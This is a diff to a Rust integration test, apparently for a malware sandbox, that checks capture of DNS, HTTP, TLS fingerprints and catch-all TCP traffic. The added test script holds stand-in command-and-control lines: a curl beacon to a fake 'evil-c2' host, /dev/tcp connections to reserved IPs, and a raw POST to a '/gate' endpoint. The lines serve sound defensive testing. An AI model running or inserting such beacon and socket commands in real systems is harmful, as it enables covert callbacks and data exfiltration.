@@ -450,6 +450,11 @@ fn network_sink_answers_dns_and_http_and_everything_is_captured() {
          cat <&3 > /tmp/page.html\n\
          (exec 4<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null\n\
          (exec 5<>/dev/tcp/203.0.113.7/4444 && echo hi >&5) 2>/dev/null\n\
+         curl -sk --max-time 5 https://secure.evil-c2.test:8443/beacon\n\
+         (exec 6<>/dev/tcp/198.51.100.20/31999 && echo connected && echo knock >&6) > /tmp/catchall.txt 2>&1\n\
+         exec 7<>/dev/tcp/198.51.100.20/8081\n\
+         printf 'POST /gate HTTP/1.1\\r\\nHost: 198.51.100.20:8081\\r\\nContent-Length: 2\\r\\n\\r\\nid' >&7\n\
+         cat <&7 > /tmp/gate.html\n\
          exit 0\n"
     );
     let id = submit(&s, "net.sh", script.as_bytes(), 30, "");
@@ -483,13 +488,14 @@ fn network_sink_answers_dns_and_http_and_everything_is_captured() {
     );
     assert_eq!(http["user-agent"], "nestbox-test/1.0");
     assert_eq!(http["port"], 80);
-    assert!(
-        r["signatures"]
-            .as_array()
-            .unwrap()
-            .iter()
-            .any(|s| s["name"] == "http_request" && s["marks"][0]["ioc"] == http["uri"])
-    );
+    assert!(r["signatures"].as_array().unwrap().iter().any(|s| {
+        s["name"] == "http_request"
+            && s["marks"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|m| m["ioc"] == http["uri"])
+    }));
     let tcp = net["tcp"].as_array().unwrap();
     let has_flow = |dst: &str, dport: u16| {
         tcp.iter()
@@ -506,6 +512,27 @@ fn network_sink_answers_dns_and_http_and_everything_is_captured() {
     }
     let hosts = strings(&net["hosts"]);
     assert!(hosts.contains(&"203.0.113.7".to_owned()), "{hosts:?}");
+    // TLS on any port: the ClientHello's server name and JA3 fingerprint.
+    let tls = net["tls"].as_array().unwrap();
+    let hello = tls
+        .iter()
+        .find(|t| t["sni"] == "secure.evil-c2.test")
+        .unwrap_or_else(|| panic!("no ClientHello recorded: {tls:?}"));
+    assert_eq!(hello["dstport"], 8443);
+    assert_eq!(hello["dstip"], "10.0.2.2");
+    assert_eq!(hello["ja3"]["hash"].as_str().unwrap().len(), 32);
+    assert!(hello["ja3"]["string"].as_str().unwrap().starts_with("771,"));
+    // Every TCP port is answered (catch-all), HTTP on an odd port too.
+    assert!(has_flow("198.51.100.20", 31999), "{tcp:?}");
+    let gate = net["http"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|h| h["method"] == "POST")
+        .unwrap_or_else(|| panic!("{}", net["http"]));
+    assert_eq!(gate["uri"], "http://198.51.100.20:8081/gate");
+    assert_eq!(gate["port"], 8081);
+    assert_eq!(gate["body"], "id");
     let sum = &r["behavior"]["summary"];
     assert!(
         strings(&sum["resolves_host"]).contains(&"evil.example.com".to_owned()),
@@ -518,6 +545,10 @@ fn network_sink_answers_dns_and_http_and_everything_is_captured() {
     let body = String::from_utf8_lossy(&tar.body);
     assert!(body.contains("It works."), "{body}");
     assert!(body.contains("10.0.2.2"), "resolved.txt: {body}");
+    assert!(
+        body.contains("connected"),
+        "the catch-all did not accept: {body}"
+    );
     let pcap = s.get(&format!("/pcap/get/{id}"));
     assert_eq!(pcap.status, 200);
     assert_eq!(&pcap.body[..4], &0xa1b2_c3d4u32.to_le_bytes());
